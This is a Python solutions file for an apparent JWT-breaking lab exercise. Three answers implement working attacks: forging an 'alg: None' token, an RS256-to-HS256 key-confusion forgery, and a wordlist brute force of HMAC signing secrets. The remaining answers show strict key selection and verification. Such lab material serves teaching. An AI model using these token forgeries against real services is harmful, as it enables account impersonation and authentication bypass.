"""Solutions of 04_break_a_jwt. In the notebook, `solution("04.1")` shows one of them."""

# %% 04.1
import json

from authlab.attacks.issuer import TYP, write_token
from authlab.jose import b64url_decode


def unsign(token):
    claims = json.loads(b64url_decode(token.split(".")[1]))
    return write_token({"alg": "None", "typ": TYP}, {**claims, "sub": "alice"})


# %% 04.2
import hmac
import json

from authlab.attacks.issuer import write_token
from authlab.jose import b64url_decode


def confuse(token, pem):
    header, claims = (json.loads(b64url_decode(part)) for part in token.split(".")[:2])
    header, claims = {**header, "alg": "HS256"}, {**claims, "sub": "alice"}
    return write_token(header, claims, lambda data: hmac.digest(pem, data, "sha256"))


# %% 04.3
import hmac
import json

from authlab.jose import b64url_decode


def crack(token, words):
    text, _, signature = token.rpartition(".")
    alg = json.loads(b64url_decode(text.split(".")[0]))["alg"]
    for word in words:
        for tail in ("", *map(str, range(2020, 2030))):
            guess = word + tail
            made = hmac.digest(guess.encode(), text.encode(), "sha" + alg[2:])
            if made == b64url_decode(signature):
                return guess
    return None


# %% 04.4
def pick_key(header, keys):
    kid = header.get("kid")
    key = keys.get(kid) if isinstance(kid, str) else None
    return key if key and header.get("alg") == key["alg"] else None


# %% 04.5
import json

from authlab.jose import b64url_decode


def name_of(token):
    claims = json.loads(b64url_decode(token.split(".")[1]))
    return claims["iss"], claims["jti"]


# %% 04.6
from authlab.attacks.issuer import ALGORITHMS, AUDIENCE, ISSUER, JWKS, REQUIRED, TYP
from authlab.jose import decode


def verify(token):
    expected = {"audience": AUDIENCE, "issuer": ISSUER, "typ": TYP, "require": REQUIRED}
    return decode(token, JWKS, ALGORITHMS, **expected)
